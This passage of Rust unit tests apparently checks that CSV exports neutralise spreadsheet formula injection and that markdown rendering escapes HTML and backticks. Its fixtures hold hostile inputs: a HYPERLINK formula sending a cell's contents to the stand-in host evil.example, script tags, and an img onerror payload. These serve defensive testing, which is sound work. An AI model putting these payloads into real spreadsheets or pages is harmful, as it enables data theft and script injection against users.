        assert_eq!(&rows[0][0], "'-5");
        assert_eq!(
            &rows[0][1],
            r#"'=HYPERLINK("http://evil.example/?d="&A2,"Open")"#
        );
        assert_eq!(&rows[0][3], "'@SUM(1+1)");
        assert_eq!(
            &rows[0][5],
            "'+1 <script>alert(1)</script> (2); other values (1)"
        );
        // Counts stay numbers, never quoted.
        assert_eq!(&rows[0][6], "3");
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
    }

    #[test]
    fn markdown_shows_html_as_text() {
        let md = render_markdown(&hostile_doc());
        assert!(!md.contains("<script"), "{md}");
        assert!(!md.contains("<img"), "{md}");
        assert!(!md.contains("<b>"), "{md}");
        assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"), "{md}");
        assert!(md.contains("&lt;b&gt;edited&lt;/b&gt; &amp; more"), "{md}");
        // A backtick cannot open a code span, a line break cannot start a
        // new block.
        assert!(
            md.contains("- row 7\\`&lt;script&gt;x&lt;/script&gt;,"),
            "{md}"
        );
        assert!(md.contains("- revisions/k\\` &lt;script&gt;:"), "{md}");
        for line in md.lines().filter(|l| !l.starts_with("```")) {
            assert!(!line.starts_with('<'), "{line}");
            assert_eq!(
                line.matches('`').count(),
                line.matches("\\`").count(),
                "{line}"
            );
        }
        // A table row still has its twelve cells.
        let row = md
            .lines()
            .find(|l| l.starts_with("| '-5") || l.starts_with("| -5"))
            .unwrap();
        assert_eq!(row.matches(" | ").count(), 11, "{row}");
    }
}
